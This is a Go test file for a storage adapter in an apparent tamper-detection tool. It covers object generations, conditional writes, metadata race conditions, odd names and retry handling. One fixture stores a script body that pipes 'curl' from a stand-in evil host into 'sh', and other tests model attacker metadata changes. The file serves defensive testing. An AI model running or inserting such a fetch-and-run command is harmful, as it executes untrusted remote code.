package gcs_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/md5"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/fsouza/fake-gcs-server/fakestorage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/googleapi"
	"google.golang.org/api/option"

	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/faultproxy"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
	"github.com/tamperguard/tamperguard/internal/gsref"
)

const bucket = "tg-test"

func setup(t *testing.T) (*gcstest.Server, *gcs.Store) {
	t.Helper()
	s := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true})
	return s, gcs.New(s.Client)
}

func write(t *testing.T, st *gcs.Store, name string, cond engine.Condition, data string, meta ...engine.Metadata) engine.ObjectAttrs {
	t.Helper()
	var m engine.Metadata
	if len(meta) > 0 {
		m = meta[0]
	}
	a, err := st.Write(context.Background(), bucket, name, cond, m, strings.NewReader(data))
	require.NoError(t, err)
	return a
}

func readAll(t *testing.T, st *gcs.Store, name string, gen int64) string {
	t.Helper()
	r, err := st.Open(context.Background(), bucket, name, gen)
	require.NoError(t, err)
	defer r.Close()
	b, err := io.ReadAll(r)
	require.NoError(t, err)
	return string(b)
}

var create = engine.Condition{DoesNotExist: true}

func over(gen int64) engine.Condition { return engine.Condition{GenerationMatch: gen} }

// ---- Attrs --------------------------------------------------------------------------

func TestAttrsMapsEverything(t *testing.T) {
	_, st := setup(t)
	meta := engine.Metadata{
		ContentType: "text/x-sh", ContentEncoding: "identity", CacheControl: "no-cache",
		ContentDisposition: "attachment; filename=codecov", Custom: map[string]string{"release": "v1.2.3"},
	}
	before := time.Now().Add(-time.Minute)
	w := write(t, st, "codecov", create, "#!/bin/sh\n", meta)

	a, err := st.Attrs(context.Background(), bucket, "codecov", 0)
	require.NoError(t, err)
	sum := md5.Sum([]byte("#!/bin/sh\n"))
	assert.Equal(t, bucket, a.Bucket)
	assert.Equal(t, "codecov", a.Name)
	assert.Equal(t, w.Generation, a.Generation)
	assert.EqualValues(t, 1, a.Metageneration)
	assert.EqualValues(t, 10, a.Size)
	assert.Equal(t, sum[:], a.MD5)
	assert.Equal(t, meta, a.Meta)
	assert.True(t, a.Live)
	assert.True(t, a.Deleted.IsZero())
	assert.True(t, a.Created.After(before), "created %v", a.Created)
	assert.False(t, a.Updated.IsZero())
	assert.Equal(t, w, a, "Write returns what Attrs reads")
}

func TestAttrsGenerations(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")
	g2 := write(t, st, "x", over(g1.Generation), "two")

	live, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, g2.Generation, live.Generation)
	assert.True(t, live.Live)

	a, err := st.Attrs(ctx, bucket, "x", g2.Generation)
	require.NoError(t, err)
	assert.True(t, a.Live, "the live generation by number (confirmed against the live read)")

	a, err = st.Attrs(ctx, bucket, "x", g1.Generation)
	require.NoError(t, err)
	assert.False(t, a.Live)
	assert.False(t, a.Deleted.IsZero(), "a noncurrent generation has Deleted set")
	assert.EqualValues(t, 3, a.Size)

	_, err = st.Attrs(ctx, bucket, "x", g2.Generation+12345)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
	_, err = st.Attrs(ctx, bucket, "nope", 0)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
	assert.ErrorIs(t, err, storage.ErrObjectNotExist, "the SDK's error is still reachable")

	// After a delete nothing is live, and the last generation is noncurrent.
	require.NoError(t, st.Delete(ctx, bucket, "x", over(g2.Generation)))
	_, err = st.Attrs(ctx, bucket, "x", 0)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
	a, err = st.Attrs(ctx, bucket, "x", g2.Generation)
	require.NoError(t, err)
	assert.False(t, a.Live)
	assert.False(t, a.Deleted.IsZero())
}

// ---- Open ---------------------------------------------------------------------------

func TestOpenReadsThatGeneration(t *testing.T) {
	_, st := setup(t)
	g1 := write(t, st, "x", create, "one")
	g2 := write(t, st, "x", over(g1.Generation), "two")
	assert.Equal(t, "one", readAll(t, st, "x", g1.Generation))
	assert.Equal(t, "two", readAll(t, st, "x", g2.Generation))

	_, err := st.Open(context.Background(), bucket, "x", 0)
	require.Error(t, err, "Open never reads whatever is live")
	assert.ErrorIs(t, err, gcs.ErrInvalidArgument)

	_, err = st.Open(context.Background(), bucket, "x", g2.Generation+1)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
}

func gzipped(t *testing.T, s string) string {
	t.Helper()
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	_, err := zw.Write([]byte(s))
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	return b.String()
}

func TestOpenGzipEncodedObjectReturnsStoredBytes(t *testing.T) {
	_, st := setup(t)
	stored := gzipped(t, "#!/bin/sh\ncurl -s https://evil.example/ | sh\n")
	a := write(t, st, "x.sh", create, stored, engine.Metadata{ContentType: "text/x-sh", ContentEncoding: "gzip"})
	assert.EqualValues(t, len(stored), a.Size)

	got := readAll(t, st, "x.sh", a.Generation)
	assert.Equal(t, sha256.Sum256([]byte(stored)), sha256.Sum256([]byte(got)), "the hash is of the stored gzip bytes")
}

func TestOpenLyingContentEncoding(t *testing.T) {
	// An attacker can label any bytes gzip. They must come back as stored, promptly,
	// not fail to decode (and not send the SDK's reader into retries).
	_, st := setup(t)
	a := write(t, st, "x.sh", create, "plain bytes, not gzip", engine.Metadata{ContentEncoding: "gzip"})
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	r, err := st.Open(ctx, bucket, "x.sh", a.Generation)
	require.NoError(t, err)
	defer r.Close()
	b, err := io.ReadAll(r)
	require.NoError(t, err)
	assert.Equal(t, "plain bytes, not gzip", string(b))
}

func TestOpenRefusesJSONReadsClient(t *testing.T) {
	s, st := setup(t)
	a := write(t, st, "x", create, "one")
	c, err := storage.NewClient(context.Background(),
		option.WithEndpoint(s.URL+"/storage/v1/"), option.WithoutAuthentication(), storage.WithJSONReads())
	require.NoError(t, err)
	t.Cleanup(func() { _ = c.Close() })

	_, err = gcs.New(c).Open(context.Background(), bucket, "x", a.Generation)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "gcs.NewClient", "the SDK (v1.65) cannot ReadCompressed over JSON reads")
}

func TestNewClientHonoursEmulatorHost(t *testing.T) {
	s, st := setup(t)
	a := write(t, st, "x.sh", create, gzipped(t, "hello"), engine.Metadata{ContentEncoding: "gzip"})

	t.Setenv("STORAGE_EMULATOR_HOST", strings.TrimPrefix(s.URL, "http://"))
	c, err := gcs.NewClient(context.Background(), storage.WithJSONReads()) // overridden: reads use XML
	require.NoError(t, err)
	t.Cleanup(func() { _ = c.Close() })
	got, err := gcs.New(c).Attrs(context.Background(), bucket, "x.sh", 0)
	require.NoError(t, err)
	assert.Equal(t, a.Generation, got.Generation)
	r, err := gcs.New(c).Open(context.Background(), bucket, "x.sh", a.Generation)
	require.NoError(t, err)
	b, err := io.ReadAll(r)
	require.NoError(t, err)
	require.NoError(t, r.Close())
	assert.Equal(t, gzipped(t, "hello"), string(b))
}

// detReader yields n pseudo-random bytes and hashes them as it goes.
type detReader struct {
	rng  *rand.ChaCha8
	left int64
	h    io.Writer
}

func (d *detReader) Read(p []byte) (int, error) {
	if d.left == 0 {
		return 0, io.EOF
	}
	if int64(len(p)) > d.left {
		p = p[:d.left]
	}
	n, _ := d.rng.Read(p)
	d.h.Write(p[:n])
	d.left -= int64(n)
	return n, nil
}

func TestLargeObjectStreams(t *testing.T) {
	if testing.Short() {
		t.Skip("64 MiB")
	}
	_, st := setup(t)
	const size = 64 << 20
	want := sha256.New()
	src := &detReader{rng: rand.NewChaCha8([32]byte{7}), left: size, h: want}
	a, err := st.Write(context.Background(), bucket, "big.bin", create, engine.Metadata{ContentType: "application/octet-stream"}, src)
	require.NoError(t, err, "an upload of %d chunks", size/gcs.WriteChunkSize)
	assert.EqualValues(t, size, a.Size)

	r, err := st.Open(context.Background(), bucket, "big.bin", a.Generation)
	require.NoError(t, err)
	defer r.Close()
	got := sha256.New()
	n, err := io.CopyBuffer(got, r, make([]byte, 32<<10))
	require.NoError(t, err)
	assert.EqualValues(t, size, n)
	assert.Equal(t, want.Sum(nil), got.Sum(nil))
}

// ---- Versions and List --------------------------------------------------------------

func TestVersionsExactNameNewestFirst(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "bash", create, "1")
	g2 := write(t, st, "bash", over(g1.Generation), "2")
	g3 := write(t, st, "bash", over(g2.Generation), "3")
	for _, other := range []string{"bash2", "bash/x", "bas", "bash.sig", "bash\u00a0"} {
		write(t, st, other, create, other)
	}

	vs, err := st.Versions(ctx, bucket, "bash")
	require.NoError(t, err)
	require.Len(t, vs, 3)
	assert.Equal(t, []int64{g3.Generation, g2.Generation, g1.Generation}, []int64{vs[0].Generation, vs[1].Generation, vs[2].Generation})
	for _, v := range vs {
		assert.Equal(t, "bash", v.Name)
	}
	assert.True(t, vs[0].Live)
	assert.True(t, vs[0].Deleted.IsZero())
	assert.False(t, vs[1].Live)
	assert.False(t, vs[1].Deleted.IsZero())
	assert.False(t, vs[2].Live)

	require.NoError(t, st.Delete(ctx, bucket, "bash", over(g3.Generation)))
	vs, err = st.Versions(ctx, bucket, "bash")
	require.NoError(t, err)
	require.Len(t, vs, 3, "a delete in a versioned bucket keeps the generation")
	for _, v := range vs {
		assert.False(t, v.Live)
		assert.False(t, v.Deleted.IsZero())
	}

	vs, err = st.Versions(ctx, bucket, "nothing-here")
	require.NoError(t, err)
	assert.Empty(t, vs)
}

func TestVersionsBounded(t *testing.T) {
	s, st := setup(t)
	for g := int64(1); g <= gcs.MaxVersions+1; g++ {
		s.Fake.CreateObject(fakestorage.Object{
			ObjectAttrs: fakestorage.ObjectAttrs{BucketName: bucket, Name: "many", Generation: g},
			Content:     []byte("x"),
		})
	}
	_, err := st.Versions(context.Background(), bucket, "many")
	assert.ErrorIs(t, err, gcs.ErrTooManyVersions)
	assert.Contains(t, err.Error(), `gs://tg-test/"many"`)
}

func TestList(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	a := write(t, st, "dist/a", create, "a")
	write(t, st, "dist/a", over(a.Generation), "a2")
	write(t, st, "dist/ü b", create, "b")
	write(t, st, "other", create, "o")
	g := write(t, st, "dist/gone", create, "g")
	require.NoError(t, st.Delete(ctx, bucket, "dist/gone", over(g.Generation)))

	var names []string
	err := st.List(ctx, bucket, "dist/", func(v engine.ObjectAttrs) error {
		assert.True(t, v.Live)
		names = append(names, v.Name)
		return nil
	})
	require.NoError(t, err)
	assert.Equal(t, []string{"dist/a", "dist/ü b"}, names, "live objects only, one per name")

	stop := errors.New("stop")
	calls := 0
	err = st.List(ctx, bucket, "", func(engine.ObjectAttrs) error { calls++; return stop })
	assert.Same(t, stop, err, "fn's error comes back as it is")
	assert.Equal(t, 1, calls)

	err = st.List(ctx, bucket, "dist/\n", func(engine.ObjectAttrs) error { return nil })
	assert.ErrorIs(t, err, gcs.ErrInvalidArgument)
	assert.Contains(t, err.Error(), `gcs: list gs://tg-test/"dist/\n"*`)
}

// ---- Write --------------------------------------------------------------------------

func TestWriteConditions(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")

	_, err := st.Write(ctx, bucket, "x", create, engine.Metadata{}, strings.NewReader("two"))
	assert.ErrorIs(t, err, engine.ErrPrecondition, "DoesNotExist while something is live")
	var gerr *googleapi.Error
	require.ErrorAs(t, err, &gerr)
	assert.Equal(t, http.StatusPreconditionFailed, gerr.Code)
	assert.Contains(t, err.Error(), `gcs: write gs://tg-test/"x"#new [ifGenerationMatch=0]: precondition failed: googleapi: Error 412`)

	_, err = st.Write(ctx, bucket, "x", over(g1.Generation+1), engine.Metadata{}, strings.NewReader("two"))
	assert.ErrorIs(t, err, engine.ErrPrecondition, "stale GenerationMatch")

	for name, cond := range map[string]engine.Condition{
		"unconditional":     {},
		"both":              {DoesNotExist: true, GenerationMatch: g1.Generation},
		"metageneration":    {GenerationMatch: g1.Generation, MetagenerationMatch: 1},
		"negative":          {GenerationMatch: -1},
		"metageneration-on": {MetagenerationMatch: 1},
	} {
		_, err = st.Write(ctx, bucket, "x", cond, engine.Metadata{}, strings.NewReader("two"))
		assert.ErrorIs(t, err, gcs.ErrUnconditional, name)
		assert.NotErrorIs(t, err, engine.ErrPrecondition, name)
	}

	g2, err := st.Write(ctx, bucket, "x", over(g1.Generation), engine.Metadata{CacheControl: "no-cache"}, strings.NewReader("two"))
	require.NoError(t, err)
	assert.Greater(t, g2.Generation, g1.Generation)
	assert.True(t, g2.Live)
	assert.Equal(t, "no-cache", g2.Meta.CacheControl)
	assert.NotEqual(t, "text/plain; charset=utf-8", g2.Meta.ContentType, "the content type is not sniffed")
	assert.Equal(t, "two", readAll(t, st, "x", g2.Generation))

	vs, err := st.Versions(ctx, bucket, "x")
	require.NoError(t, err)
	assert.Len(t, vs, 2, "refused writes created nothing")
	_ = s
}

// failingReader yields n bytes, then an error instead of EOF.
type failingReader struct {
	n   int
	err error
}

func (f *failingReader) Read(p []byte) (int, error) {
	if f.n == 0 {
		return 0, f.err
	}
	if len(p) > f.n {
		p = p[:f.n]
	}
	for i := range p {
		p[i] = 'x'
	}
	f.n -= len(p)
	return len(p), nil
}

func TestWriteAbandonsUploadWhenSourceFails(t *testing.T) {
	for _, n := range []int{10, gcs.WriteChunkSize + 1<<20} {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			_, st := setup(t)
			ctx := context.Background()
			g1 := write(t, st, "x", create, "good")
			bad := errors.New("digest mismatch")
			_, err := st.Write(ctx, bucket, "x", over(g1.Generation), engine.Metadata{}, &failingReader{n: n, err: bad})
			require.ErrorIs(t, err, bad)
			assert.NotErrorIs(t, err, engine.ErrTransient)

			live, err := st.Attrs(ctx, bucket, "x", 0)
			require.NoError(t, err)
			assert.Equal(t, g1.Generation, live.Generation, "no generation was created")
			assert.Equal(t, "good", readAll(t, st, "x", live.Generation))
		})
	}
}

// ---- Delete -------------------------------------------------------------------------

func TestDelete(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")

	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", engine.Condition{}), gcs.ErrUnconditional)
	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", create), gcs.ErrUnconditional)
	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", over(g1.Generation+1)), engine.ErrPrecondition)
	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", engine.Condition{GenerationMatch: g1.Generation, MetagenerationMatch: 2}), engine.ErrPrecondition)

	live, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, g1.Generation, live.Generation, "still live")

	require.NoError(t, st.Delete(ctx, bucket, "x", over(g1.Generation)))
	_, err = st.Attrs(ctx, bucket, "x", 0)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", over(g1.Generation)), engine.ErrObjectNotFound)
	assert.Equal(t, "one", readAll(t, st, "x", g1.Generation), "kept as a noncurrent generation")
}

// ---- UpdateMetadata -----------------------------------------------------------------

func TestUpdateMetadata(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	good := engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache", Custom: map[string]string{"release": "v1"}}
	g := write(t, st, "x", create, "one", good)
	cond := func(mg int64) engine.Condition {
		return engine.Condition{GenerationMatch: g.Generation, MetagenerationMatch: mg}
	}

	// The attacker's change.
	evil := engine.Metadata{ContentType: "text/html", ContentEncoding: "gzip", CacheControl: "public, max-age=31536000",
		ContentDisposition: "inline", Custom: map[string]string{"release": "v1", "x-evil": "1"}}
	a, err := st.UpdateMetadata(ctx, bucket, "x", cond(1), evil)
	require.NoError(t, err)
	assert.Equal(t, evil, a.Meta)
	assert.EqualValues(t, 2, a.Metageneration)
	assert.Equal(t, g.Generation, a.Generation)
	assert.True(t, a.Live)

	// Putting it back with the metageneration read before the attack loses.
	_, err = st.UpdateMetadata(ctx, bucket, "x", cond(1), good)
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	assert.Contains(t, err.Error(), "ifMetagenerationMatch=1")
	_, err = st.UpdateMetadata(ctx, bucket, "x", engine.Condition{GenerationMatch: g.Generation + 1, MetagenerationMatch: 2}, good)
	assert.ErrorIs(t, err, engine.ErrPrecondition)

	// With the current one it wins: headers cleared, the extra custom key removed.
	a, err = st.UpdateMetadata(ctx, bucket, "x", cond(2), good)
	require.NoError(t, err)
	assert.Equal(t, good, a.Meta)
	got, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, good, got.Meta)
	assert.Equal(t, a.Metageneration, got.Metageneration)
	assert.Greater(t, got.Metageneration, int64(2))

	// Nothing to change: nothing written.
	same, err := st.UpdateMetadata(ctx, bucket, "x", cond(got.Metageneration), good)
	require.NoError(t, err)
	assert.Equal(t, got.Metageneration, same.Metageneration)

	// Custom metadata cleared entirely in one patch.
	a, err = st.UpdateMetadata(ctx, bucket, "x", cond(got.Metageneration), engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache"})
	require.NoError(t, err)
	assert.Nil(t, a.Meta.Custom)
	assert.Equal(t, got.Metageneration+1, a.Metageneration)

	for name, c := range map[string]engine.Condition{
		"none": {}, "generation only": {GenerationMatch: g.Generation}, "metageneration only": {MetagenerationMatch: 1},
		"does not exist": {DoesNotExist: true, MetagenerationMatch: 1},
	} {
		_, err = st.UpdateMetadata(ctx, bucket, "x", c, good)
		assert.ErrorIs(t, err, gcs.ErrUnconditional, name)
	}
	assert.Equal(t, "one", readAll(t, st, "x", g.Generation), "the bytes never change")

	_, err = st.UpdateMetadata(ctx, bucket, "nope", cond(1), good)
	assert.ErrorIs(t, err, engine.ErrObjectNotFound)
}

// racer changes the object's metadata through another client just before the adapter's
// PATCH goes out: the race that MetagenerationMatch exists for.
type racer struct {
	base  http.RoundTripper
	other *storage.Client
	fired atomic.Bool
}

func (r *racer) RoundTrip(req *http.Request) (*http.Response, error) {
	if req.Method == http.MethodPatch && r.fired.CompareAndSwap(false, true) {
		_, err := r.other.Bucket(bucket).Object("x").Update(req.Context(), storage.ObjectAttrsToUpdate{ContentType: "text/html"})
		if err != nil {
			return nil, fmt.Errorf("racer: %w", err)
		}
	}
	return r.base.RoundTrip(req)
}

func TestMetadataPreconditionIsEnforcedByTheLayer(t *testing.T) {
	ctx := context.Background()
	good := engine.Metadata{ContentType: "text/x-sh"}

	// Through gcstest's layer: the racing change bumps the metageneration and the
	// adapter's conditional patch loses.
	s, st := setup(t)
	g := write(t, st, "x", create, "one", engine.Metadata{ContentType: "text/plain"})
	rc := &racer{base: http.DefaultTransport, other: s.Client}
	c, err := storage.NewClient(ctx, option.WithEndpoint(s.URL+"/storage/v1/"), option.WithHTTPClient(&http.Client{Transport: rc}))
	require.NoError(t, err)
	t.Cleanup(func() { _ = c.Close() })
	_, err = gcs.New(c).UpdateMetadata(ctx, bucket, "x", engine.Condition{GenerationMatch: g.Generation, MetagenerationMatch: 1}, good)
	require.True(t, rc.fired.Load())
	assert.ErrorIs(t, err, engine.ErrPrecondition)
	live, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, "text/html", live.Meta.ContentType, "the racing change stands")

	// The bare fake: same adapter, same race, and the stale patch silently wins,
	// because the fake ignores ifMetagenerationMatch (and never bumps it).
	fake, err := fakestorage.NewServerWithOptions(fakestorage.Options{NoListener: true})
	require.NoError(t, err)
	t.Cleanup(fake.Stop)
	fake.CreateBucketWithOpts(fakestorage.CreateBucketOpts{Name: bucket, VersioningEnabled: true})
	bareStore := gcs.New(fake.Client())
	bg := bareWrite(t, bareStore)
	rc = &racer{base: fake.HTTPClient().Transport, other: fake.Client()}
	bc, err := storage.NewClient(ctx, option.WithHTTPClient(&http.Client{Transport: rc}))
	require.NoError(t, err)
	t.Cleanup(func() { _ = bc.Close() })
	_, err = gcs.New(bc).UpdateMetadata(ctx, bucket, "x", engine.Condition{GenerationMatch: bg, MetagenerationMatch: 1}, good)
	require.True(t, rc.fired.Load())
	assert.NoError(t, err, "the bare fake lets a stale metadata update through")
	live, err = bareStore.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)
	assert.Equal(t, "text/x-sh", live.Meta.ContentType, "the racing change was clobbered")
}

func bareWrite(t *testing.T, st *gcs.Store) int64 {
	t.Helper()
	a, err := st.Write(context.Background(), bucket, "x", create, engine.Metadata{ContentType: "text/plain"}, strings.NewReader("one"))
	require.NoError(t, err)
	return a.Generation
}

// ---- names --------------------------------------------------------------------------

func TestOddObjectNamesRoundTrip(t *testing.T) {
	_, st := setup(t)
	ctx := context.Background()
	for _, name := range []string{
		"with space", "ünïcødé/☃.sh", "hash#12", "query?x=1&y=2", "percent%20%2F%", "tab\there",
		`quote"and\backslash`, "..dots", "dir//double", "+plus", "bidi\u202eevil", "nul\x00byte",
		strings.Repeat("long/", 204) + "x", // 1021 bytes
	} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			a := write(t, st, name, create, "data")
			assert.Equal(t, name, a.Name)
			got, err := st.Attrs(ctx, bucket, name, a.Generation)
			require.NoError(t, err)
			assert.Equal(t, name, got.Name)
			assert.Equal(t, "data", readAll(t, st, name, a.Generation))
			vs, err := st.Versions(ctx, bucket, name)
			require.NoError(t, err)
			require.Len(t, vs, 1)
			u, err := st.UpdateMetadata(ctx, bucket, name, engine.Condition{GenerationMatch: a.Generation, MetagenerationMatch: 1}, engine.Metadata{CacheControl: "no-cache"})
			require.NoError(t, err)
			assert.Equal(t, "no-cache", u.Meta.CacheControl)
			require.NoError(t, st.Delete(ctx, bucket, name, over(a.Generation)))
		})
	}
}

func TestInvalidNamesAreRefusedBeforeAnyRequest(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	s.FailNext("", "", http.StatusTeapot, 1000) // any request would show up as a 418
	for _, name := range []string{"", "line\nfeed", "carriage\rreturn", ".", "..", strings.Repeat("x", 1025), "bad\xffutf8", ".well-known/acme-challenge/x"} {
		_, err := st.Attrs(ctx, bucket, name, 0)
		assert.ErrorIs(t, err, gcs.ErrInvalidArgument, "%q", name)
		assert.NotErrorIs(t, err, engine.ErrObjectNotFound, "%q", name)
		_, err = st.Write(ctx, bucket, name, create, engine.Metadata{}, strings.NewReader("x"))
		assert.ErrorIs(t, err, gcs.ErrInvalidArgument, "%q", name)
		assert.ErrorIs(t, st.Delete(ctx, bucket, name, over(1)), gcs.ErrInvalidArgument, "%q", name)
		_, err = st.Open(ctx, bucket, name, 1)
		assert.ErrorIs(t, err, gcs.ErrInvalidArgument, "%q", name)
		_, err = st.Versions(ctx, bucket, name)
		assert.ErrorIs(t, err, gcs.ErrInvalidArgument, "%q", name)
	}
	_, err := st.Attrs(ctx, "Bad/Bucket", "x", 0)
	assert.ErrorIs(t, err, gcs.ErrInvalidArgument)
	assert.Contains(t, err.Error(), `gs://"Bad/Bucket"/"x"#live`)
	// Cloud Storage's bucket rules, not only its characters: the engine, the event decoder
	// and the configuration apply the same ones.
	for _, b := range []string{"-ab", "ab", "a..b", strings.Repeat("a", 64), "192.168.5.4", "goog-x", "a-google-b"} {
		_, err := st.Attrs(ctx, b, "x", 0)
		assert.ErrorIs(t, err, gcs.ErrInvalidArgument, b)
		assert.ErrorIs(t, st.List(ctx, b, "", func(engine.ObjectAttrs) error { return nil }), gcs.ErrInvalidArgument, b)
	}
}

func TestErrorMessageQuotesTheName(t *testing.T) {
	_, st := setup(t)
	_, err := st.Attrs(context.Background(), bucket, "evil\u202e\x1b[31mname", 42)
	require.Error(t, err)
	msg := err.Error()
	assert.Contains(t, msg, `gs://tg-test/"evil\u202e\x1b[31mname"#42`)
	assert.NotContains(t, msg, "\x1b")
	assert.NotContains(t, msg, "\n")
	var ge *gcs.Error
	require.ErrorAs(t, err, &ge)
	assert.Equal(t, "attrs", ge.Op)
	assert.EqualValues(t, 42, ge.Generation)
}

// ---- transient failures -------------------------------------------------------------

func TestTransientErrors(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	a := write(t, st, "x", create, "one")

	// Absorbed by the client's own retry.
	s.FailNext(http.MethodGet, "/o/x", http.StatusServiceUnavailable, 1)
	_, err := st.Attrs(ctx, bucket, "x", 0)
	require.NoError(t, err)

	for _, status := range []int{http.StatusServiceUnavailable, http.StatusInternalServerError, http.StatusTooManyRequests, http.StatusRequestTimeout} {
		s.FailNext(http.MethodGet, "/o/x", status, gcstest.MaxAttempts)
		_, err = st.Attrs(ctx, bucket, "x", 0)
		assert.ErrorIs(t, err, engine.ErrTransient, "%d", status)
		var gerr *googleapi.Error
		require.ErrorAs(t, err, &gerr)
		assert.Equal(t, status, gerr.Code)
	}

	// Downloads (XML API: GET /BUCKET/OBJECT).
	s.FailNext(http.MethodGet, "/"+bucket+"/x", http.StatusServiceUnavailable, gcstest.MaxAttempts)
	_, err = st.Open(ctx, bucket, "x", a.Generation)
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.Contains(t, err.Error(), fmt.Sprintf(`gs://tg-test/"x"#%d`, a.Generation))

	s.FailNext(http.MethodGet, "/o", http.StatusServiceUnavailable, gcstest.MaxAttempts)
	_, err = st.Versions(ctx, bucket, "x")
	assert.ErrorIs(t, err, engine.ErrTransient)

	s.FailNext(http.MethodDelete, "/o/x", http.StatusServiceUnavailable, gcstest.MaxAttempts)
	assert.ErrorIs(t, st.Delete(ctx, bucket, "x", over(a.Generation)), engine.ErrTransient)

	s.FailNext(http.MethodPatch, "/o/x", http.StatusBadGateway, gcstest.MaxAttempts)
	_, err = st.UpdateMetadata(ctx, bucket, "x", engine.Condition{GenerationMatch: a.Generation, MetagenerationMatch: 1}, engine.Metadata{CacheControl: "no-cache"})
	assert.ErrorIs(t, err, engine.ErrTransient)

	// Not transient: a client error.
	s.FailNext(http.MethodGet, "/o/x", http.StatusForbidden, 1)
	_, err = st.Attrs(ctx, bucket, "x", 0)
	require.Error(t, err)
	assert.NotErrorIs(t, err, engine.ErrTransient)
	assert.NotErrorIs(t, err, engine.ErrObjectNotFound)

	// A dropped connection.
	s.FailNext(http.MethodGet, "/o/x", gcstest.DropConnection, 100)
	_, err = st.Attrs(ctx, bucket, "x", 0)
	assert.ErrorIs(t, err, engine.ErrTransient)
}

func TestTransientWriteAndDeadlines(t *testing.T) {
	s, st := setup(t)
	a := write(t, st, "x", create, "one")

	// Uploads retry by their own per-chunk deadline; the caller's deadline ends them.
	s.FailNext(http.MethodPost, "/upload/", http.StatusServiceUnavailable, 1000)
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	_, err := st.Write(ctx, bucket, "x", over(a.Generation), engine.Metadata{}, strings.NewReader("two"))
	assert.ErrorIs(t, err, engine.ErrTransient)

	expired, cancel2 := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel2()
	_, err = st.Attrs(expired, bucket, "x", 0)
	assert.ErrorIs(t, err, engine.ErrTransient)
	assert.ErrorIs(t, err, context.DeadlineExceeded)

	canceled, cancel3 := context.WithCancel(context.Background())
	cancel3()
	_, err = st.Attrs(canceled, bucket, "x", 0)
	require.Error(t, err)
	assert.NotErrorIs(t, err, engine.ErrTransient, "the caller gave up")
}

// ---- Attrs: requests ----------------------------------------------------------------

// Attributes of the live generation asked for by number cost one request; a noncurrent one
// two (the live read, then the generation's).
func TestAttrsOfTheLiveGenerationIsOneRequest(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	g1 := write(t, st, "x", create, "one")
	g2 := write(t, st, "x", over(g1.Generation), "two")
	p, client := s.WithFaults(t)
	counted := gcs.New(client)

	a, err := counted.Attrs(ctx, bucket, "x", g2.Generation)
	require.NoError(t, err)
	assert.True(t, a.Live)
	assert.True(t, a.HasCRC32C)
	assert.Equal(t, 1, p.Stats().Requests)

	a, err = counted.Attrs(ctx, bucket, "x", g1.Generation)
	require.NoError(t, err)
	assert.False(t, a.Live)
	assert.Equal(t, "one", readAll(t, st, "x", a.Generation))
	assert.Equal(t, 3, p.Stats().Requests)

	require.NoError(t, st.Delete(ctx, bucket, "x", over(g2.Generation)))
	a, err = counted.Attrs(ctx, bucket, "x", g2.Generation)
	require.NoError(t, err)
	assert.False(t, a.Live, "nothing is live")
}

// ---- Copy ---------------------------------------------------------------------------

func ref(b, o string, gen int64) gsref.ObjectRef {
	return gsref.ObjectRef{Bucket: b, Object: o, Generation: gen}
}

// A copy puts an older generation's bytes back as a new live generation, server-side, under
// the destination's precondition, with exactly the metadata asked for.
func TestCopyRestoresAGenerationServerSide(t *testing.T) {
	s, st := setup(t)
	ctx := context.Background()
	big := strings.Repeat("signed bytes\n", 80_000) // ~1 MiB
	good := write(t, st, "x", create, big, engine.Metadata{ContentType: "text/x-sh", ContentEncoding: "gzip",
		ContentDisposition: "inline", Custom: map[string]string{"tamperguard-incident": "old", "attacker": "was here"}})
	bad := write(t, st, "x", over(good.Generation), "evil")
	p, client := s.WithFaults(t)
	counted := gcs.New(client)

	want := engine.Metadata{ContentType: "text/x-sh", CacheControl: "no-cache", Custom: map[string]string{"tamperguard-incident": "new"}}
	got, err := counted.Copy(ctx, ref(bucket, "x", good.Generation), ref(bucket, "x", 0), over(bad.Generation), want)
	require.NoError(t, err)
	assert.True(t, got.Live)
